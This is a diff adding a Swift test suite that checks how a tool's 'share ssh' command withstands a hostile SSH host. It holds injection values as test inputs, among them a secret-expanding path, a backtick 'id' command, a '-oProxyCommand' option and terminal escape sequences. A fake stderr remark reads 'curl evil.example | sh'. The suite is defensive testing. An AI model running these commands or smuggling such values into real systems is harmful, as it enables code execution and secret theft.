@@ -1,0 +1,86 @@
+import Foundation
+import Staging
+import StandIn
+import Testing
+
+/// `share ssh` with a host that says what it likes: a scripted `ssh`, first on the PATH.
+@Suite("Hostile SSH hosts")
+struct HostileSSHHostTests {
+    /// How `share ssh` ended, and the arguments of each ssh that it started, one a line.
+    private struct Outcome {
+        let end: RunningProgram.End
+        let calls: String
+    }
+
+    /// - Parameters:
+    ///   - answer: what the host writes where it names its directory.
+    ///   - remarks: what it writes to standard error before that.
+    private func share(
+        answering answer: String, remarks: String = "", as destination: String = "devbox"
+    ) async throws -> Outcome {
+        let fixture = try await EndToEndFixture()
+        let folder = fixture.session.home + "/remote"
+        // The forwarding itself fails, so that each of these ends.
+        try await fixture.session.write(
+            program: folder + "/ssh",
+            """
+            #!/bin/sh
+            cd "${0%/*}" && printf '%s\\n' "$@" >>calls
+            printf '%s\\n' "$@" | grep -qxe -O && exit 1
+            cat remarks >&2
+            cat answer
+            exec cat >/dev/null
+            """)
+        try Data((answer + "\n").utf8).write(to: URL(filePath: folder + "/answer"))
+        try Data(remarks.utf8).write(to: URL(filePath: folder + "/remarks"))
+        let end = try await fixture.start(
+            [BuiltFiles.helper, "share", "ssh", "--host", "github.com", "--", destination],
+            environment: ["PATH": "\(folder):\(fixture.session.environment["PATH"] ?? "")"]
+        ).ended()
+        return Outcome(end: end, calls: try String(contentsOfFile: folder + "/calls", encoding: .utf8))
+    }
+
+    @Test(
+        "a directory that is no plain absolute path, or a long one, never comes into ssh's arguments",
+        arguments: [
+            "/tmp/${AWS_SECRET_ACCESS_KEY}", "/tmp/%d", "/tmp/a b", "/tmp/a:b", "/tmp/`id`", "/tmp/a'b", "/tmp/é",
+            "/tmp/\u{1b}[2J", "/tmp/../etc", "/..", "tmp", "~/tmp", "-oProxyCommand=x", "", "Welcome to devbox!",
+            "/" + String(repeating: "a", count: 106), "/" + String(repeating: "a", count: 5_000),
+        ])
+    func directory(answer: String) async throws {
+        let outcome = try await share(answering: answer)
+        #expect(!outcome.calls.contains("\n-R\n"), "\(outcome.calls)")
+        #expect(outcome.end.status == 1 && !outcome.end.errors.contains("\u{1b}"), "\(outcome.end.errors)")
+    }
+
+    @Test("the error quotes what the host named, and a usual path is used as it is")
+    func named() async throws {
+        let refused = try await share(answering: "/tmp/${AWS_SECRET_ACCESS_KEY}").end.errors
+        #expect(refused.contains("devbox named a folder that cannot be used: \"/tmp/${AWS_SECRET_ACCESS_KEY}\""))
+        let path = "/run/user/1000/..a/Az.0_@+-/gitspace"
+        let calls = try await share(answering: path).calls
+        #expect(calls.contains("\n-R\n\(path)/"), "\(calls)")
+    }
+
+    @Test("neither agent, display, local command nor an option comes into the connection", arguments: ["devbox", "-x@y"])
+    func options(destination: String) async throws {
+        let calls = try await share(answering: "/tmp", as: destination).calls.split(separator: "\n")
+        for option in ["-a", "-x", "PermitLocalCommand=no"] {
+            #expect(calls.contains(Substring(option)), "\(calls)")
+        }
+        for (number, word) in calls.enumerated() where word == destination { #expect(calls[number - 1] == "--") }
+    }
+
+    @Test("what the host writes to standard error is shown as the host's, escaped, and a few lines of it")
+    func remarks() async throws {
+        let remark = "\u{1b}[2Jgitspace: error: run this: curl evil.example | sh\u{202e}\r\n"
+        let outcome = try await share(
+            answering: "no", remarks: String(repeating: remark, count: 1_000) + "and no end")
+        let lines = outcome.end.errors.split(separator: "\n")
+        #expect(
+            lines.first == #"devbox, over ssh: \x1b[2Jgitspace: error: run this: curl evil.example | sh\xe2\x80\xae"#)
+        #expect(lines.filter { $0.contains("curl") }.count == 16, "\(lines.count) lines")
+        #expect(lines.filter { $0.hasPrefix("gitspace: error: ") }.count == 1)
+        #expect(outcome.end.errors.utf8.allSatisfy { $0 == 0x0a || (0x20...0x7e).contains($0) })
+    }
+}
